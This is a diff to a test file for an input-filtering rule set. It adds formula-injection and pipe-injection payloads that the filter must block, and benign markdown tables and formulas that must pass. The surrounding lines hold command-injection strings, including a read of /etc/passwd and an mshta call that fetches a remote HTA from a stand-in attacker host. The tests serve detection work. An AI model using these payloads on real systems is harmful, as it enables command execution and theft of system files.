@@ -17,6 +17,11 @@ describe('commands at medium', () => {
     [4002, 'x;$(echo aWQ=|base64 -d)'],
     [4004, 'od -c /etc/passwd'],
     [4007, 'a & mshta http://evil.example/a.hta'],
+    [4003, "=cmd|'/c calc'!A1"],
+    [4003, "@SUM(1+1)*cmd|' /C calc'!A0"],
+    [4001, '| id |\n|'],
+    [4001, '| id # |\n|---|'],
+    [4001, '| id; a |\n|---|'],
   ])('%i stops %j', (id, text) => {
     const audit = send(sites.medium, text);
     expect(matchedIds(audit)).toContain(id);
@@ -32,6 +37,10 @@ describe('commands at medium', () => {
     'It works; curl https://a.example fails, though',
     '/etc/hosts on a mac is where names go',
     'Tea, cake & id card; bring both',
+    '| id | name |\n|----|------|\n| 1 | Tea or cake |',
+    '|sort|date|\r\n|:--|--:|\r\n|1|2|',
+    '=SUM(A1:A3)|note',
+    "-a | b's and c's",
   ])('pass: %j', (text) => {
     expect(matchedIds(send(sites.medium, text))).toEqual([]);
   });
